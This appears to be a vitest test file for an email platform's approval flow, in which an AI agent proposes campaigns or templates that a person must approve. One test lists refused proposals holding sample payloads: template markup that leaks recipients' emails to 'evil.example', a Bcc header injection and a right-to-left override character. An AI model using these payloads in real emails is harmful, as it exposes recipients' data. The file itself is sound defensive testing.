import { Mailsvc } from "@mailsvc/sdk";
import type { NewProposal } from "@mailsvc/sdk/contract";
import { beforeEach, expect, test } from "vitest";
import { withAgent } from "../../../test/agent-at-work.ts";
import { addContacts } from "../../../test/campaign.ts";
import { keyFor, secondWorkspace } from "../../../test/tenant.ts";
import { createWorld, type TestWorld } from "../../testing.ts";

type Made = Awaited<ReturnType<typeof withAgent>>;
type Proposed = Partial<Extract<NewProposal, { kind: "campaign" }>> & Record<string, unknown>;

const FROM = "news@acme.example";
const CAMPAIGN = {
  kind: "campaign",
  name: "Greeting",
  subject: 'Hello {{default firstName "there"}}',
  previewText: "Good to have you",
  html: '<p>Dear {{firstName}}, <a href="https://shop.example/sale?a=1&amp;b=2">look</a> <img src="https://pixel.example/p.gif"></p>',
} as const;
const TEMPLATE = { kind: "template", name: "Receipt", subject: "Your receipt", html: "<p>{{total}}</p>", type: "transactional" } as const;

const setting: { world: TestWorld; made: Made; list: string } = {} as never;

beforeEach(async () => {
  const world = await createWorld();
  const made = await withAgent(world, ["agent:post_messages", "agent:write_runs"]);
  await addContacts(world, 3);
  const { id: list } = await world.sdk.lists.create({ name: "Readers" });
  await world.sdk.lists.add(list, { contacts: ["p0@example.com", "p1@example.com"] });
  Object.assign(setting, { world, made, list });
  return async () => {
    await made[Symbol.asyncDispose]();
    await world.dispose();
  };
});

function ask(proposal: object, also: object = {}) {
  return setting.made.agent.client.messages.create({
    type: "APPROVAL_REQUEST",
    text: "A greeting.",
    approval: { title: "Send it?", proposal: proposal as NewProposal, ...also },
  });
}

const propose = (fields: Proposed = {}) => ask({ ...CAMPAIGN, lists: [setting.list], ...fields });

test("an approved campaign becomes a draft with exactly the bytes that were shown, and names its agent", async () => {
  const { world, made, list } = setting;
  const asked = await propose();
  expect(asked.approval).toMatchObject({
    status: "PENDING",
    options: [{ id: "approve" }, { id: "reject" }],
    proposal: { kind: "campaign", name: "Greeting", subject: CAMPAIGN.subject, previewText: CAMPAIGN.previewText, lists: [list] },
  });
  // Neither side of the conversation repeats the content.
  expect(JSON.stringify(asked)).not.toContain("Dear");
  const shown = await world.sdk.approvals.get(asked.id);
  expect(shown).toMatchObject({
    agentSlug: "writer",
    proposal: {
      html: CAMPAIGN.html,
      text: null,
      rendered: { subject: "Hello there", html: expect.stringContaining("Good to have you") },
      renderError: null,
      linksTo: ["shop.example"],
      loadsFrom: ["pixel.example"],
      suggestedLists: [{ id: list, name: "Readers", memberCount: 2 }],
      reach: 2,
      suggestedSender: { fromEmail: "hello@brand.example", fromName: null },
      created: null,
    },
  });
  const hash = shown.proposal?.hash ?? "";
  expect(hash).toBe(asked.approval?.proposal?.hash);
  const answered = await world.sdk.messages.answer(asked.id, { decision: "approve", hash, fromEmail: FROM });
  expect(answered.approval).toMatchObject({ status: "APPROVED", decision: "approved" });
  const [campaign, ...others] = (await world.sdk.campaigns.list()).data;
  expect(others).toEqual([]);
  expect(await world.sdk.campaigns.get(campaign?.id ?? "")).toMatchObject({
    status: "DRAFT",
    name: "Greeting",
    subjectLine: CAMPAIGN.subject,
    previewText: CAMPAIGN.previewText,
    html: CAMPAIGN.html,
    text: null,
    fromEmail: FROM,
    recipientType: "groups",
    include: [list],
    proposedBy: { agentSlug: "writer", agentName: expect.any(String), activationId: made.agent.activationId, approvalId: asked.id },
  });
  expect((await world.sdk.approvals.get(asked.id)).proposal?.created).toEqual({ kind: "campaign", id: campaign?.id, sent: false });
  expect((await world.inbox.all()).length).toBe(0);
  // The agent learns the decision, and nothing else.
  const [event] = await made.agent.heard("approval_response");
  expect(event).toMatchObject({ messageId: asked.id, decision: "approved" });
  for (const seen of [event, answered])
    for (const secret of [campaign?.id ?? "", FROM, "example.com"]) expect(JSON.stringify(seen)).not.toContain(secret);
  // A copy is no longer what was proposed.
  expect((await world.sdk.campaigns.duplicate(campaign?.id ?? "")).proposedBy).toBeNull();
});

test("a person sends a proposal at once, to the lists of their choice, with unsubscribe links", async () => {
  const { world, list } = setting;
  const other = (await world.sdk.lists.create({ name: "Others" })).id;
  await world.sdk.lists.add(other, { contacts: ["p2@example.com"] });
  const send = async (lists?: string[]) => {
    const { id, approval } = await propose();
    return world.sdk.messages.answer(id, {
      decision: "approve",
      hash: approval?.proposal?.hash,
      create: "send",
      fromEmail: FROM,
      ...(lists && { lists }),
    });
  };
  await send();
  await world.settle();
  expect((await world.inbox.all()).map(({ to }) => to).sort()).toEqual(["p0@example.com", "p1@example.com"]);
  const [first] = (await world.inbox.all()).filter(({ to }) => to === "p0@example.com");
  const mail = await world.inbox.get(first?.id ?? "");
  expect(mail.subject).toBe("Hello P0");
  expect(mail.html).toContain("Dear P0");
  expect(JSON.stringify(mail.headers).toLowerCase()).toContain("list-unsubscribe");
  await send([other, list, other]);
  await world.settle();
  expect(
    (await world.inbox.all())
      .map(({ to }) => to)
      .sort()
      .join(),
  ).toBe(["p0@example.com", "p0@example.com", "p1@example.com", "p1@example.com", "p2@example.com"].join());
  expect((await world.sdk.campaigns.list()).data.map(({ status }) => status)).toEqual(["SENT", "SENT"]);
});

test("an approved template becomes a draft template, whose slug is free", async () => {
  const { world, made } = setting;
  const approve = async (name: string) => {
    const { id, approval } = await ask({ ...TEMPLATE, name });
    await world.sdk.messages.answer(id, { decision: "approve", hash: approval?.proposal?.hash });
    const { created } = (await world.sdk.approvals.get(id)).proposal ?? {};
    return world.sdk.templates.get(created?.id ?? "");
  };
  const first = await approve("Receipt");
  expect(first).toMatchObject({
    slug: "receipt",
    type: "transactional",
    status: "ACTIVE",
    version: null,
    source: { subject: TEMPLATE.subject, html: TEMPLATE.html, text: null },
    proposedBy: { agentSlug: "writer", activationId: made.agent.activationId },
  });
  expect((await approve("Receipt")).slug).toMatch(/^proposal-/);
  expect((await approve("日本")).slug).toMatch(/^proposal-/);
  const { id, approval } = await ask(TEMPLATE);
  const hash = approval?.proposal?.hash;
  for (const also of [{ create: "send" as const }, { fromEmail: FROM }, { lists: [] }])
    await expect(world.sdk.messages.answer(id, { decision: "approve", hash, ...also })).rejects.toMatchObject({ code: "validation_error" });
  expect((await world.sdk.templates.list()).pagination.total).toBe(3);
});

test("nothing is created without the hash of what was asked, the sender, and the permission to create it", async () => {
  const { world, list } = setting;
  const { id, approval } = await propose();
  const other = await propose({ html: "<p>Other</p>" });
  const hash = approval?.proposal?.hash;
  const answer = (body: object, sdk = world.sdk) => sdk.messages.answer(id, { decision: "approve", hash, fromEmail: FROM, ...body });
  const refusals: [object, object][] = [
    [{ hash: undefined }, { code: "validation_error", details: [{ path: "hash", code: "required" }] }],
    [{ hash: other.approval?.proposal?.hash }, { code: "conflict", details: [{ code: "other_proposal" }] }],
    [{ hash: "" }, { code: "conflict" }],
    [{ fromEmail: undefined }, { code: "validation_error", details: [{ path: "fromEmail", code: "required" }] }],
    [{ fromEmail: "boss@bank.com" }, { code: "sender_not_verified" }],
    [{ lists: ["list_01jc3v2m9k8q4w6x0y5z7a1b2c"] }, { code: "not_found" }],
    [{ lists: ["list_01jc3v2m9k8q4w6x0y5z7a1b2c"], create: "send" }, { code: "not_found" }],
    [
      { lists: [], create: "send" },
      { code: "validation_error", details: [{ path: "lists" }] },
    ],
    [{ decision: "reject" }, { code: "validation_error", details: [{ path: "hash", code: "not_allowed" }] }],
    [{ decision: "send" }, { code: "validation_error" }],
    [{ html: "<p>Mine</p>" }, { code: "validation_error" }],
    [{ comment: "x".repeat(2001) }, { code: "validation_error" }],
  ];
  for (const [body, error] of refusals) await expect(answer(body)).rejects.toMatchObject(error);
  const limited = new Mailsvc({
    apiKey: await keyFor(world, "marketplace:read", "marketplace:write"),
    baseUrl: world.url,
    fetch: world.fetch,
    maxRetries: 0,
  });
  await expect(answer({}, limited)).rejects.toMatchObject({ code: "forbidden", details: [{ message: "campaigns:write" }] });
  expect((await limited.approvals.get(id)).proposal).toMatchObject({ reach: null, suggestedLists: null, suggestedSender: null });
  const { sdk: stranger } = await secondWorkspace(world);
  await expect(answer({}, stranger)).rejects.toMatchObject({ code: "not_found" });
  await expect(stranger.approvals.get(id)).rejects.toMatchObject({ code: "not_found" });
  expect((await world.sdk.campaigns.list()).pagination.total).toBe(0);
  expect((await world.sdk.messages.get(id)).approval?.status).toBe("PENDING");
  // A deleted list is named, and another one can be chosen.
  await world.sdk.lists.delete(list);
  expect((await world.sdk.approvals.get(id)).proposal).toMatchObject({ suggestedLists: [], reach: 0 });
  await expect(answer({})).rejects.toMatchObject({ code: "not_found" });
  await answer({ lists: [] });
  expect((await world.sdk.campaigns.list()).data).toMatchObject([{ status: "DRAFT", recipientType: "groups", include: [] }]);
});

test("of twenty answers at once one counts, and creates one campaign", async () => {
  const { world } = setting;
  const { id, approval } = await propose();
  const hash = approval?.proposal?.hash;
  const answers = await Promise.allSettled(
    Array.from({ length: 20 }, (_, i) =>
      world.sdk.messages.answer(
        id,
        i % 4 === 3 ? { decision: "reject" } : { decision: "approve", hash, fromEmail: FROM, create: i % 2 ? "send" : "draft" },
      ),
    ),
  );
  expect(answers.filter(({ status }) => status === "fulfilled")).toHaveLength(1);
  for (const answer of answers)
    if (answer.status === "rejected") expect(answer.reason).toMatchObject({ code: "invalid_state", status: 409 });
  const { status } = (await world.sdk.messages.get(id)).approval ?? {};
  expect((await world.sdk.campaigns.list()).pagination.total).toBe(status === "APPROVED" ? 1 : 0);
  await expect(world.sdk.messages.answer(id, { decision: "approve", hash, fromEmail: FROM })).rejects.toMatchObject({
    code: "invalid_state",
  });
});

test("a process that dies while it creates leaves the request open, and nothing created", async () => {
  const { world } = setting;
  const { queue } = world.app.deps;
  const { enqueue } = queue;
  const { id, approval } = await propose();
  const body = { decision: "approve", hash: approval?.proposal?.hash, fromEmail: FROM, create: "send" } as const;
  queue.enqueue = async () => {
    throw new Error("The process was killed.");
  };
  try {
    await expect(world.sdk.messages.answer(id, body)).rejects.toThrow();
  } finally {
    queue.enqueue = enqueue;
  }
  expect((await world.sdk.messages.get(id)).approval?.status).toBe("PENDING");
  expect((await world.sdk.campaigns.list()).pagination.total).toBe(0);
  await world.sdk.messages.answer(id, body, { idempotencyKey: "once" });
  await world.sdk.messages.answer(id, body, { idempotencyKey: "once" });
  expect((await world.sdk.campaigns.list()).pagination.total).toBe(1);
});

test("another proposal under the same externalId is refused, and asks again under another one", async () => {
  const { client } = setting.made.agent;
  const request = (html: string, externalId: string) =>
    client.messages.create({
      type: "APPROVAL_REQUEST",
      text: "A greeting.",
      externalId,
      approval: { title: "Send it?", proposal: { ...CAMPAIGN, html } },
    });
  const first = await request("<p>One</p>", "a");
  expect((await request("<p>One</p>", "a")).id).toBe(first.id);
  await expect(request("<p>Two</p>", "a")).rejects.toMatchObject({ code: "id_reused" });
  expect((await request("<p>Two</p>", "b")).approval?.proposal?.hash).not.toBe(first.approval?.proposal?.hash);
});

test("what is asked of a brand that pauses, expires or ends the agent is not created later", async () => {
  const { world, made } = setting;
  const short = await ask(CAMPAIGN, { expiresInSeconds: 60 });
  const asked = await propose();
  const approve = ({ id, approval }: typeof asked) =>
    world.sdk.messages.answer(id, { decision: "approve", hash: approval?.proposal?.hash, fromEmail: FROM });
  await world.clock.advance("61s");
  await expect(approve(short)).rejects.toMatchObject({ code: "invalid_state", details: [{ code: "approval_expired" }] });
  // A paused agent has asked before; the person decides, and it hears of it when it is back.
  await world.sdk.activations.pause(made.agent.activationId);
  await approve(asked);
  expect((await world.sdk.campaigns.list()).pagination.total).toBe(1);
  await world.sdk.activations.resume(made.agent.activationId);
  const last = await propose();
  await world.sdk.activations.deactivate(made.agent.activationId);
  await expect(approve(last)).rejects.toMatchObject({ status: 409 });
  expect((await world.sdk.campaigns.list()).pagination.total).toBe(1);
});

test("proposals that hide something from the person are refused where they are made", async () => {
  const { world, made } = setting;
  await world.sdk.templates.create({ name: "Footer", slug: "footer", type: "partial", html: "<p>Ours</p>", publish: true });
  const { sdk: stranger } = await secondWorkspace(world);
  const foreign = (await stranger.lists.create({ name: "Theirs" })).id;
  const refused: Proposed[] = [
    { fromEmail: "boss@bank.com" },
    { lists: [foreign] },
    { lists: ["list_nope"] },
    { lists: [setting.list, setting.list] },
    { html: undefined },
    { html: "x".repeat(262_145) },
    { subject: "a\r\nBcc: b@example.com" },
    { subject: " " },
    { name: "\u202eevil" },
    { html: "<p>{{> footer}}</p>" },
    { html: "<p>{{#if firstName}}a{{else}}b{{/if}}</p>" },
    { html: "<p>{{#each tags}}x{{/each}}</p>" },
    { html: "<p>{{{firstName}}}</p>" },
    { html: '<p>{{default firstName (upper "x")}}</p>' },
    { html: "<p>{{eq email 'a@example.com'}}</p>" },
    { html: '<img src="https://evil.example/?e={{email}}">' },
    { html: '<a href="https://evil.example/?e={{email}}">x</a>' },
    { html: '<a href="{{unsubscribeUrl}}{{email}}">x</a>' },
    { html: "<style>p { background: url(https://evil.example/{{email}}) }</style>" },
    { html: "<!-- {{email}} -->" },
    { html: "<!--[if mso]><img src='https://evil.example/{{email}}'><![endif]-->" },
    { html: "<p title='{{email}}'>x</p>" },
    { html: "<p {{email}}>x</p>" },
    { html: "<script>{{email}}</script>" },
    { html: '<form action="https://evil.example"><textarea name="e">{{email}}</textarea></form>' },
    { html: "<select><option><!--[if mso]></option></select><![endif]-->{{email}}</select>" },
    { html: '<textarea><a href="{{unsubscribeUrl}}">x</a></textarea>' },
    { html: "<p>{{" },
    { text: "{{#if email}}a{{/if}}" },
    { subject: "{{#if email}}a{{/if}}" },
    { scheduledAt: "2030-01-01T00:00:00Z" },
    { replyTo: "evil@example.com" },
    { trackOpens: true },
    { templateId: "tpl_01jc3v2m9k8q4w6x0y5z7a1b2c" },
    { kind: "automation" as never },
  ];
  for (const fields of refused) {
    // Twenty messages a minute.
    await world.clock.advance("10s");
    const error = await propose(fields).catch((reason: unknown) => reason);
    expect(error, JSON.stringify(fields).slice(0, 200)).toMatchObject({
      status: expect.toSatisfy((status: number) => [400, 404].includes(status)),
    });
  }
  for (const also of [
    { preview: { kind: "text", text: "Harmless" } },
    {
      options: [
        { id: "approve", label: "Approve" },
        { id: "send", label: "Send" },
      ],
    },
    {
      options: [
        { id: "approve", label: "Approve" },
        { id: "reject", label: "Reject" },
        { id: "x", label: "X" },
      ],
    },
  ])
    await expect(ask(CAMPAIGN, also)).rejects.toMatchObject({ code: "validation_error" });
  expect((await made.agent.client.messages.create({ text: "still here" })).type).toBe("TEXT");
  // Addresses of the service are the same for all.
  await propose({
    html: '<p>{{default firstName "friend"}} <a href="{{unsubscribeUrl}}">Leave</a> <a href="{{viewInBrowserUrl}}">View</a></p>',
  });
  await expect(ask({ ...TEMPLATE, html: "{{> footer}}" })).rejects.toMatchObject({ code: "validation_error" });
});
